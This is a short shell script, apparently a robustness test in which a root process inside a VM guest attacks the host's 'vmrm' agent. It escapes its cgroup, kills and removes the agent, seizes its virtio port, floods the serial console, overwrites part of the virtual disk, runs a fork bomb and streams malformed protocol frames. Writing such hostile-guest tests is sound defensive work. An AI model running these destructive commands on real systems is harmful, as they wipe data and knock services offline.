# A guest's root that takes the agent's port and its console, and uses up its VM. It outlives the task that starts it.
echo $$ >/sys/fs/cgroup/cgroup.procs
touch /tmp/away
# The task ends first: it needs the agent for that.
sleep 3
mv /usr/sbin/vmrm-agent /root/
until killall -9 vmrm-agent 2>/dev/null; (exec 4>/dev/virtio-ports/org.vmrm.agent.0) 2>/dev/null; do :; done
echo taken >/home/alice/havoc
dd if=/dev/zero of=/dev/ttyS0 bs=64k &
dd if=/dev/zero of=/dev/vda bs=1M count=64 seek=1500 &
# Rubbish, then what looks like frames: each a magic and a length that is not followed by as much.
dd if=/dev/urandom of=/dev/virtio-ports/org.vmrm.agent.0 bs=64k count=600
echo flooded >>/home/alice/havoc
bomb() { bomb | bomb & }
(ulimit -u 2000; bomb) 2>/dev/null &
while :; do printf 'VMRM\0\0\0\0\022\001\0\0\0\0\001\0'; done >/dev/virtio-ports/org.vmrm.agent.0
